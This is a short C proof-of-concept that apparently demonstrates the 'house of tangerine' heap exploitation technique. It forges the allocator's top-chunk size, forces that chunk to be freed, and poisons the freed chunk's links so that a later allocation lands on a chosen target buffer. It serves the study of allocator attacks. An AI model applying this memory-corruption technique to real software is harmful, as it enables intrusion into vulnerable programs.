/*
 * house_of_tangerine: top is closed early, twice, and the links of what becomes
 * of it are made to lead away.
 */
#include "technique.h"

static _Alignas(16) char target[4096];

int main(void)
{
    for (int round = 0; round < 2; round++) {
        char *top = find_top(malloc(CHUNKED));
        forge_low(top, 0x1000 | PREV_INUSE | IS_FREE);
        for (int i = 0; i < PATIENCE; i++) {
            malloc(100000);
        }
        *word_of(top, 0) = (uintptr_t)target;
        *word_of(top, 1) = (uintptr_t)target;
    }
    grab(CHUNKED, target, sizeof target);
    fails();
}
